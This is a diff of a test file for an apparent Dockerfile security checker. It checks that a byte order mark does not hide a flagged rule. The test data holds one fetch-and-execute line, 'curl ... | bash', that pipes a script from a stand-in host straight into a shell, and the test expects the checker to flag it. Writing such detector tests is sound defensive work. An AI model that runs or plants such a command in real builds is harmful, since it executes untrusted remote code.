@@ -225,7 +225,9 @@ def test_credentials_in_urls_are_redacted(tmp_path: Path) -> None:
 
 def test_a_byte_order_mark_does_not_hide_the_checks(tmp_path: Path) -> None:
     path = tmp_path / "Dockerfile"
-    path.write_bytes(b"\xef\xbb\xbfFROM " + PIN.encode() + b"\nRUN curl -fsSL https://x.example/i.sh | bash\nUSER app\n")
+    path.write_bytes(
+        b"\xef\xbb\xbfFROM " + PIN.encode() + b"\nRUN curl -fsSL https://x.example/i.sh | bash\nUSER app\n"
+    )
     assert [f.rule_id for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))] == ["MLS503"]
     path.write_bytes(b"\xef\xbb\xbfFROM " + PIN.encode() + b"\nRUN echo ok\nUSER app\n")
     assert findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path)) == []
